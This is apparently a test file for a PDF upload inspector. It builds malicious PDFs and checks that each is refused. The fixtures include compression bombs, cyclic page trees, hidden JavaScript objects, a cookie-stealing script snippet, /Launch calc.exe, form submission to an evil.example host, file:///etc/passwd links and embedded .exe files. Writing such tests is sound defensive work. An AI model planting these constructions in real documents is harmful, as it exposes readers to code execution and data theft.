// The PDF inspector every stored PDF passes (uploads, template sources, signers' File upload values), on
// files built here: page limits (a 20,001-page PDF), compression bombs stopped while decoding, a time
// budget, forged page trees (a cyclic /Pages tree, which made pdf-lib overflow its stack), files that are
// not well-formed PDFs (`%PDF-` then HTML), objects hidden from a reading pass, and every kind of active
// content. Refusals are PdfRefusals with messages of their own, never a parser's error text.
import { createHash } from 'node:crypto';
import { degrees, PDFContext, PDFDocument, PDFName, PDFRawStream, PDFString } from 'pdf-lib';
import { describe, expect, it } from 'vitest';
import { displaySpace } from '../../pdf/page-space.ts';
import { buildDemoPdf } from '../../scripts/demo/demo-pdf.ts';
import { AppError } from '../../services/errors.ts';
import { pdfProblem } from '../../services/files/check-pdf.ts';
import { inspectPdf, inspectPdfNow } from '../../services/files/inspect-pdf.ts';
import { PDF_LIMITS, PdfBudget, type PdfLimits, PdfRefusal } from '../../services/files/pdf-limits.ts';
import { chargeStream } from '../../services/files/pdf-stream-decoding.ts';
import { flatPageTree, handMadePdf, ONE_PAGE, stream, zerosDeflated } from '../support/hand-made-pdf.ts';

const MEBIBYTE = 1024 * 1024;
const MAX_BYTES = 50 * MEBIBYTE;

/**
 * The time budget is tested on its own (with 1 ms); every other check here is about pages, bytes or content,
 * which a slow machine must not turn into a time refusal, so they read with a time limit of two minutes.
 */
const UNHURRIED = { maxParseMilliseconds: 120_000 };

/** The refusal inspectPdf answers for `bytes`, as its message and its detail. */
async function refusal(bytes: Uint8Array, limits?: Partial<PdfLimits>) {
  const error = await inspectPdf(bytes, {
    maxBytes: MAX_BYTES,
    limits: { ...UNHURRIED, ...limits },
    client: 'test',
  }).then(
    () => undefined,
    (caught: unknown) => caught,
  );
  expect(error, 'the PDF was accepted').toBeInstanceOf(AppError);
  const { status, code, message, details } = error as AppError;
  expect(status).toBe(400);
  expect(message).not.toMatch(/Maximum call stack|RangeError|TypeError|offset=|line:\d/);
  return { code, message, detail: details[0]?.message ?? '' };
}

async function accepted(bytes: Uint8Array) {
  return inspectPdf(bytes, { maxBytes: MAX_BYTES, limits: UNHURRIED, client: 'test' });
}

/** The one-page tree plus `annotation` (object 4) on the page. */
function withAnnotation(annotation: string, ...more: (string | Buffer)[]) {
  return handMadePdf([
    ONE_PAGE[0] as string,
    ONE_PAGE[1] as string,
    '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Annots [4 0 R] >>',
    annotation,
    ...more,
  ]);
}

function link(action: string) {
  return `<< /Type /Annot /Subtype /Link /Rect [10 10 100 30] /A ${action} >>`;
}

/** A pdf-lib document of `pages` blank pages, saved with object streams (as pdf-lib does by default). */
async function blankPages(pages: number) {
  const document = await PDFDocument.create({ updateMetadata: false });
  for (let index = 0; index < pages; index += 1) document.addPage([200, 200]);
  return document.save();
}

describe('well-formed PDFs', () => {
  it('accepts PDFs with and without object streams, with links and a go-to opening action', async () => {
    const demo = await buildDemoPdf('Inspected', 3);
    expect(await accepted(demo)).toEqual({
      pageCount: 3,
      pages: Array(3).fill({ width: 595.28, height: 841.89 }),
      sha256: createHash('sha256').update(demo).digest('hex'),
    });
    const plain = await (await PDFDocument.load(demo)).save({ useObjectStreams: false });
    expect((await accepted(plain)).pageCount).toBe(3);

    const links = withAnnotation(
      link('<< /S /URI /URI (https://example.com/terms) >>'),
      '<< /Type /Annot /Subtype /Link /Rect [0 0 1 1] /A << /S /URI /URI (mailto:legal@example.com) >> >>',
    );
    expect((await accepted(links)).pageCount).toBe(1);
    const goTo = handMadePdf([
      '<< /Type /Catalog /Pages 2 0 R /OpenAction [3 0 R /Fit] >>',
      ...ONE_PAGE.slice(1),
    ]);
    expect((await accepted(goTo)).pageCount).toBe(1);
  });

  it('accepts line ends and NUL padding after %%EOF, and inherits the page size from the tree', async () => {
    const padded = handMadePdf(ONE_PAGE, { after: `\r\n${'\u0000'.repeat(4096)}\n` });
    expect((await accepted(padded)).pageCount).toBe(1);
    const inherited = handMadePdf([
      ONE_PAGE[0] as string,
      '<< /Type /Pages /Kids [3 0 R] /Count 1 /MediaBox [0 0 612 792] >>',
      '<< /Type /Page /Parent 2 0 R >>',
    ]);
    expect((await accepted(inherited)).pages).toEqual([{ width: 612, height: 792 }]);
  });

  it('measures pages as displayed: crop box, then rotation, inherited from the tree, as the renderer does', async () => {
    const document = await PDFDocument.create();
    document.addPage([595.28, 841.89]);
    document.addPage([595.28, 841.89]).setRotation(degrees(90));
    document.addPage([595.28, 841.89]).setRotation(degrees(-90));
    const cropped = document.addPage([600, 800]);
    cropped.setCropBox(50, 100, 400, 500);
    cropped.setRotation(degrees(180));
    document.addPage([300, 200]).setMediaBox(100, 50, 300, 200);
    const bytes = await document.save();
    const expected = [
      { width: 595.28, height: 841.89 },
      { width: 841.89, height: 595.28 },
      { width: 841.89, height: 595.28 },
      { width: 400, height: 500 },
      { width: 300, height: 200 },
    ];
    expect((await accepted(bytes)).pages).toEqual(expected);
    // The space the renderers draw fields in (pdf/page-space.ts) has the same sizes.
    const loaded = await PDFDocument.load(bytes);
    expect(
      loaded.getPages().map((page) => {
        const { width, height } = displaySpace(page);
        return { width, height };
      }),
    ).toEqual(expected);

    // /Rotate and /CropBox inherited from the page tree node (a direct null is no entry at all); a reference
    // to a null object stops the inheritance and reads as "none", as pdf-lib reads it.
    const inherited = handMadePdf([
      ONE_PAGE[0] as string,
      '<< /Type /Pages /Kids [3 0 R 4 0 R 5 0 R] /Count 3 /MediaBox [0 0 612 792] /CropBox [0 0 612 700] /Rotate 270 >>',
      '<< /Type /Page /Parent 2 0 R >>',
      '<< /Type /Page /Parent 2 0 R /CropBox null /Rotate null >>',
      '<< /Type /Page /Parent 2 0 R /CropBox 6 0 R /Rotate 6 0 R >>',
      'null',
    ]);
    const sizes = [
      { width: 700, height: 612 },
      { width: 700, height: 612 },
      { width: 612, height: 792 },
    ];
    expect((await accepted(inherited)).pages).toEqual(sizes);
    expect(
      (await PDFDocument.load(inherited)).getPages().map((page) => {
        const { width, height } = displaySpace(page);
        return { width, height };
      }),
    ).toEqual(sizes);
  });
});

describe('limits', () => {
  it(`accepts ${PDF_LIMITS.maxPages} pages and refuses one more, and a 20,001-page PDF`, async () => {
    expect((await accepted(await blankPages(PDF_LIMITS.maxPages))).pageCount).toBe(PDF_LIMITS.maxPages);
    const over = await refusal(await blankPages(PDF_LIMITS.maxPages + 1));
    expect(over.message).toBe('The PDF has more than 500 pages, the limit for one document.');
    expect(over.detail).toBe('more than 500 pages');
    // Written by hand: pdf-lib takes seconds to build this many pages.
    expect((await refusal(flatPageTree(20_001))).detail).toBe('more than 500 pages');
  });

  it('counts the pages it walks, not the /Count the file declares', async () => {
    expect((await refusal(flatPageTree(600, 1))).detail).toBe('more than 500 pages');
  });

  it('refuses a 200 MB flate bomb in a page content stream', async () => {
    const bomb = handMadePdf([
      ...ONE_PAGE.slice(0, 2),
      '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R >>',
      stream('/Filter /FlateDecode', zerosDeflated(200)),
    ]);
    expect(bomb.length).toBeLessThan(300 * 1024);
    const refused = await refusal(bomb);
    expect(refused.message).toMatch(/expands to more than 100 MB, the limit for one document/);
    expect(refused.detail).toBe('decompresses to more than 100 MB');
  });

  it('stops inflating a bomb as soon as the budget is spent, not after decoding it', () => {
    const context = PDFContext.create();
    const bomb = PDFRawStream.of(context.obj({ Filter: 'FlateDecode' }), zerosDeflated(200));
    const budget = new PdfBudget({ ...PDF_LIMITS, maxDecodedBytes: 10 * MEBIBYTE });
    expect(() => chargeStream(context, bomb, budget)).toThrow(PdfRefusal);
    // Input goes in 4 KB slices, and one slice inflates to at most ~4.1 MB.
    expect(budget.decodedBytes).toBeGreaterThan(10 * MEBIBYTE);
    expect(budget.decodedBytes).toBeLessThan(15 * MEBIBYTE);
  });

  it('counts every stream of the file towards one budget, through chained filters and object streams', async () => {
    const tenMegabytes = zerosDeflated(10);
    const many = handMadePdf([
      ...ONE_PAGE,
      ...Array.from({ length: 11 }, () => stream('/Filter /FlateDecode', tenMegabytes)),
    ]);
    expect((await refusal(many)).detail).toBe('decompresses to more than 100 MB');

    const hex = Buffer.from(`${zerosDeflated(200).toString('hex')}>`, 'latin1');
    const chained = handMadePdf([...ONE_PAGE, stream('/Filter [/ASCIIHexDecode /FlateDecode]', hex)]);
    expect((await refusal(chained)).detail).toBe('decompresses to more than 100 MB');

    // An object stream is decoded while the file is read: pdf-lib would inflate all of it into memory.
    const objectStream = handMadePdf([
      ...ONE_PAGE,
      stream('/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode', zerosDeflated(200)),
    ]);
    expect((await refusal(objectStream)).detail).toBe('decompresses to more than 100 MB');
  });

  it('decodes LZW and RunLength streams to count them', () => {
    const context = PDFContext.create();
    const zeros = new Uint8Array(MEBIBYTE);
    const text = new TextEncoder().encode('TOBEORNOTTOBEORTOBEORNOT#'.repeat(20_000));
    for (const data of [zeros, text]) {
      const encoded = lzwEncode(data);
      const budget = new PdfBudget(PDF_LIMITS);
      chargeStream(context, PDFRawStream.of(context.obj({ Filter: 'LZWDecode' }), encoded), budget);
      expect(budget.decodedBytes).toBe(data.length);
    }
    // 2 bytes per 128: a run of 257 - 129 = 128 copies of the next byte.
    const runs = Buffer.concat([Buffer.from('\u0081\u0000'.repeat(1000), 'latin1'), Buffer.from([128])]);
    const budget = new PdfBudget(PDF_LIMITS);
    chargeStream(context, PDFRawStream.of(context.obj({ Filter: 'RunLengthDecode' }), runs), budget);
    expect(budget.decodedBytes).toBe(128_000);
  });

  it('refuses a file that takes longer to read than the time budget', async () => {
    const objects = Array.from({ length: 20_000 }, (_, index) => `[${index} (filler)]`);
    const refused = await refusal(handMadePdf([...ONE_PAGE, ...objects]), { maxParseMilliseconds: 1 });
    expect(refused.message).toBe(
      'The PDF is too complex to read within 0.001 seconds, the limit for one document.',
    );
  });

  it('refuses a file over the size limit with file_too_large', async () => {
    const demo = await buildDemoPdf('Size', 1);
    const error = await inspectPdf(demo, { maxBytes: demo.length - 1, field: 'pdf', client: 'test' }).catch(
      (e: unknown) => e,
    );
    expect(error).toMatchObject({ status: 400, code: 'file_too_large', details: [{ field: 'pdf' }] });
  });
});

describe('damaged and malformed files', () => {
  it('refuses a cyclic page tree with a clean message (pdf-lib overflows its stack on it)', async () => {
    const cyclic = handMadePdf([
      ONE_PAGE[0] as string,
      '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
      '<< /Type /Pages /Parent 2 0 R /Kids [2 0 R] /Count 1 >>',
    ]);
    const lenient = await PDFDocument.load(cyclic, { updateMetadata: false });
    expect(() => lenient.getPages()).toThrow(/Maximum call stack/);
    const refused = await refusal(cyclic);
    expect(refused.message).toBe(
      'The PDF is damaged: its page tree loops back on itself or lists a page twice (object 2).',
    );

    const twice = handMadePdf([
      ONE_PAGE[0] as string,
      '<< /Type /Pages /Kids [3 0 R 3 0 R] /Count 2 >>',
      ONE_PAGE[2] as string,
    ]);
    expect((await refusal(twice)).detail).toBe('damaged PDF (page tree loop)');

    const parentLoop = handMadePdf([
      ONE_PAGE[0] as string,
      '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
      '<< /Type /Page /Parent 3 0 R /MediaBox [0 0 10 10] >>',
    ]);
    expect((await refusal(parentLoop)).message).toMatch(
      /page 3 does not name its page tree node 2 as its parent/,
    );
  });

  it('refuses absurd nesting without passing on the stack overflow', async () => {
    const nested = handMadePdf([...ONE_PAGE, `${'['.repeat(200_000)}${']'.repeat(200_000)}`]);
    const refused = await refusal(nested);
    expect(refused.message).toMatch(
      /^The PDF is damaged: its objects could not be read \(near byte \d+\)\.$/,
    );
  });

  it('refuses %PDF- followed by HTML, HTML between objects and HTML after the end marker', async () => {
    const html = '<html><body><script>alert(document.cookie)</script></body></html>\n';
    expect((await refusal(Buffer.from(`%PDF-${html}%%EOF\n`))).message).toBe(
      'The file is not a well-formed PDF: its %PDF- header has no version number (such as %PDF-1.7).',
    );
    expect((await refusal(Buffer.from(`%PDF-1.7\n${html}%%EOF\n`))).message).toBe(
      'The file is not a well-formed PDF: after its %PDF- header comes something other than PDF objects (at byte 9).',
    );
    const between = handMadePdf([...ONE_PAGE.slice(0, 2), `${ONE_PAGE[2]}\nendobj\n${html}`]);
    expect((await refusal(between)).message).toMatch(
      /^The file is not a well-formed PDF: it holds something other/,
    );
    expect((await refusal(handMadePdf(ONE_PAGE, { after: html }))).detail).toBe(
      'data after the end of the PDF',
    );
    expect(pdfProblem(Buffer.from(`%PDF-1.7\n${html}%%EOF\n`))).toMatch(/^the file is not a well-formed PDF/);
  });

  it('refuses an object the cross-reference table points to inside another object', async () => {
    // Object 4 is a stream whose data holds a whole object; the table sends a viewer to it.
    const hidden = Buffer.from('5 0 obj << /S /JavaScript /JS (app.alert(1)) >> endobj', 'latin1');
    const plain = handMadePdf([...ONE_PAGE, stream('', hidden), '<< >>']);
    const at = plain.indexOf(hidden);
    const forged = handMadePdf([...ONE_PAGE, stream('', hidden), '<< >>'], { offsets: { 5: at } });
    expect((await refusal(forged)).message).toMatch(
      /its cross-reference table points to an object hidden inside another object/,
    );
    // The same file with the table pointing at object 5 itself is fine (the stream is inert data).
    expect((await accepted(plain)).pageCount).toBe(1);
  });

  it('refuses names that pdf-lib and viewers decode differently, and a key written twice', async () => {
    // `#4a` is "J" to a viewer; pdf-lib decodes only upper-case escapes.
    expect((await refusal(withAnnotation(link('<< /S /JavaScript /#4aS (app.alert(1)) >>')))).detail).toMatch(
      /JavaScript|ambiguous name/,
    );
    const twice = handMadePdf([
      ...ONE_PAGE,
      stream('/Filter /ASCIIHexDecode /Fi#6cter /FlateDecode', Buffer.from('00>')),
    ]);
    expect((await refusal(twice)).detail).toBe('damaged PDF (ambiguous name)');
  });

  it('refuses a page whose crop box or rotation is not numbers (the renderers could not draw on it)', async () => {
    const page = (extra: string) =>
      handMadePdf([
        ONE_PAGE[0] as string,
        ONE_PAGE[1] as string,
        `<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] ${extra} >>`,
      ]);
    expect(await refusal(page('/CropBox [0 0 100]'))).toMatchObject({
      message: 'The PDF is damaged: page 1 has no usable crop box.',
      detail: 'damaged PDF (page crop box)',
    });
    expect((await refusal(page('/CropBox [0 0 (a) 100]'))).detail).toBe('damaged PDF (page crop box)');
    expect(await refusal(page('/Rotate /Ninety'))).toMatchObject({
      message: 'The PDF is damaged: page 1 has no usable rotation.',
      detail: 'damaged PDF (page rotation)',
    });
  });

  it('refuses an empty file, a file that is not a PDF, and one without %%EOF', async () => {
    expect((await refusal(new Uint8Array())).detail).toBe('empty file');
    expect((await refusal(Buffer.from('PK\u0003\u0004 zip'))).detail).toBe('not a PDF');
    const demo = await buildDemoPdf('Cut', 2);
    expect((await refusal(demo.subarray(0, demo.length / 2))).detail).toBe(
      'incomplete PDF (no %%EOF end marker)',
    );
  });
});

describe('active content', () => {
  it('refuses a JavaScript opening action (pdf-lib puts the catalog in an object stream)', async () => {
    const document = await PDFDocument.load(await buildDemoPdf('Scripted', 1));
    document.catalog.set(
      PDFName.of('OpenAction'),
      document.context.obj({ S: 'JavaScript', JS: PDFString.of('app.launchURL("https://example.com")') }),
    );
    const scripted = await document.save();
    expect(Buffer.from(scripted).toString('latin1')).not.toContain('/JavaScript'); // compressed away
    const refused = await refusal(scripted);
    expect(refused.message).toBe(
      'The PDF contains active content, which is not accepted: JavaScript. Save or print it as a new PDF without scripts, actions, attachments or XFA forms and upload that.',
    );
    expect(refused.detail).toBe('active content: JavaScript');
  });

  it.each([
    [
      'a JavaScript name tree',
      handMadePdf([
        '<< /Type /Catalog /Pages 2 0 R /Names << /JavaScript 4 0 R >> >>',
        ...ONE_PAGE.slice(1),
        '<< /Names [(init) 5 0 R] >>',
        '<< /S /JavaScript /JS (this.print()) >>',
      ]),
      'JavaScript',
    ],
    [
      'additional actions on a page',
      handMadePdf([
        ...ONE_PAGE.slice(0, 2),
        '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /AA << /O << /S /GoTo /D [3 0 R /Fit] >> >> >>',
      ]),
      'actions that run on events (/AA)',
    ],
    [
      'a launch action',
      withAnnotation(link('<< /S /Launch /F (calc.exe) >>')),
      'an action that launches a program (/Launch)',
    ],
    [
      'a form submission',
      withAnnotation(link('<< /S /SubmitForm /F << /FS /URL /F (https://evil.example/) >> >>')),
      'an action that submits form data (/SubmitForm)',
    ],
    [
      'a data import',
      withAnnotation(link('<< /S /ImportData /F (data.fdf) >>')),
      'an action that imports data (/ImportData)',
    ],
    [
      'a link into a remote file',
      withAnnotation(link('<< /S /GoToR /F (\\\\\\\\evil\\\\share\\\\x.pdf) /D [0 /Fit] >>')),
      'a link into another file (/GoToR)',
    ],
    [
      'a link into an embedded file',
      withAnnotation(link('<< /S /GoToE /T << /R /C /N (a.pdf) >> >>')),
      'a link into an embedded file (/GoToE)',
    ],
    [
      'a rendition action',
      withAnnotation(link('<< /S /Rendition /OP 0 >>')),
      'a media rendition action (/Rendition)',
    ],
    [
      'rich media',
      withAnnotation('<< /Type /Annot /Subtype /RichMedia /Rect [0 0 10 10] >>'),
      'rich media (/RichMedia)',
    ],
    [
      'a file attachment annotation',
      withAnnotation(
        '<< /Type /Annot /Subtype /FileAttachment /Rect [0 0 10 10] /FS 5 0 R >>',
        '<< /Type /Filespec /F (a.exe) /EF << /F 6 0 R >> >>',
        stream('/Type /EmbeddedFile', Buffer.from('MZ')),
      ),
      'embedded files',
    ],
    [
      'an XFA form',
      handMadePdf([
        '<< /Type /Catalog /Pages 2 0 R /AcroForm << /Fields [] /XFA 4 0 R >> >>',
        ...ONE_PAGE.slice(1),
        stream('', Buffer.from('<xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/"/>')),
      ]),
      'an XFA form',
    ],
    [
      'a javascript: link',
      withAnnotation(link('<< /S /URI /URI (javascript:alert(1)) >>')),
      'a link to a "javascript:" address',
    ],
    [
      'a javascript: link in disguise',
      withAnnotation(link('<< /S /URI /URI ( java\tscript:alert(1)) >>')),
      'a link to a "javascript:" address',
    ],
    [
      'a file: link',
      withAnnotation(link('<< /S /URI /URI (file:///etc/passwd) >>')),
      'a link to a "file:" address',
    ],
    [
      'an opening action that opens an https: address',
      handMadePdf([
        '<< /Type /Catalog /Pages 2 0 R /OpenAction << /S /URI /URI (https://example.com/track) >> >>',
        ...ONE_PAGE.slice(1),
      ]),
      'a link opened when the document opens (/OpenAction /URI)',
    ],
    [
      'a go-to opening action chaining a URI action by reference',
      handMadePdf([
        '<< /Type /Catalog /Pages 2 0 R /OpenAction << /S /GoTo /D [3 0 R /Fit] /Next [4 0 R] >> >>',
        ...ONE_PAGE.slice(1),
        '<< /S /URI /URI (mailto:someone@example.com) >>',
      ]),
      'a link opened when the document opens (/OpenAction /URI)',
    ],
  ])('refuses %s', async (_case, pdf, kind) => {
    const refused = await refusal(pdf);
    expect(refused.detail).toBe(`active content: ${kind}`);
    expect(refused.message).toContain(`which is not accepted: ${kind}.`);
  });

  it('refuses embedded files (pdf-lib attach)', async () => {
    const document = await PDFDocument.load(await buildDemoPdf('Attached', 1));
    await document.attach(Buffer.from('MZ not really'), 'invoice.exe', {
      mimeType: 'application/octet-stream',
    });
    expect((await refusal(await document.save())).detail).toBe('active content: embedded files');
  });

  it('refuses JavaScript that an incremental update replaced but the file still holds', async () => {
    const original = handMadePdf([
      '<< /Type /Catalog /Pages 2 0 R /OpenAction 4 0 R >>',
      ...ONE_PAGE.slice(1),
      '<< /S /JavaScript /JS (app.alert(1)) >>',
    ]);
    const update = Buffer.from(
      `4 0 obj\n<< /S /GoTo /D [3 0 R /Fit] >>\nendobj\ntrailer\n<< /Size 5 /Root 1 0 R >>\n%%EOF\n`,
      'latin1',
    );
    const refused = await refusal(Buffer.concat([original, update]));
    expect(refused.detail).toBe('active content: JavaScript');
  });

  it('lists every kind found, and the signer message reads after a field label', () => {
    const both = withAnnotation(link('<< /S /Launch /F (x) /Next << /S /JavaScript /JS (1) >> >>'));
    expect(pdfProblem(both)).toBe(
      'the PDF contains active content, which is not accepted: an action that launches a program (/Launch), JavaScript. Save or print it as a new PDF without scripts, actions, attachments or XFA forms and upload that',
    );
    expect(() => inspectPdfNow(both, { maxBytes: MAX_BYTES, field: 'pdf' })).toThrow(
      expect.objectContaining({
        details: [{ field: 'pdf', message: expect.stringMatching(/^active content: /) }],
      }),
    );
  });
});

/** PDF's LZW (9 to 12-bit codes, early change 1), the encoder the decoder under test must agree with. */
function lzwEncode(data: Uint8Array): Buffer {
  const out: number[] = [];
  let bits = 0;
  let count = 0;
  let width = 9;
  const write = (code: number) => {
    bits = (bits << width) | code;
    count += width;
    while (count >= 8) {
      out.push((bits >>> (count - 8)) & 255);
      count -= 8;
    }
    bits &= (1 << count) - 1;
  };
  const table = new Map<string, number>();
  let next = 258;
  write(256);
  let current = '';
  for (const byte of data) {
    const extended = current + String.fromCharCode(byte);
    if (current === '' || table.has(extended)) {
      current = extended;
      continue;
    }
    write(current.length === 1 ? current.charCodeAt(0) : (table.get(current) as number));
    if (next < 4096) table.set(extended, next++);
    while (next >= 1 << width && width < 12) width += 1;
    current = String.fromCharCode(byte);
  }
  if (current !== '') write(current.length === 1 ? current.charCodeAt(0) : (table.get(current) as number));
  write(257);
  if (count > 0) out.push((bits << (8 - count)) & 255);
  return Buffer.from(out);
}
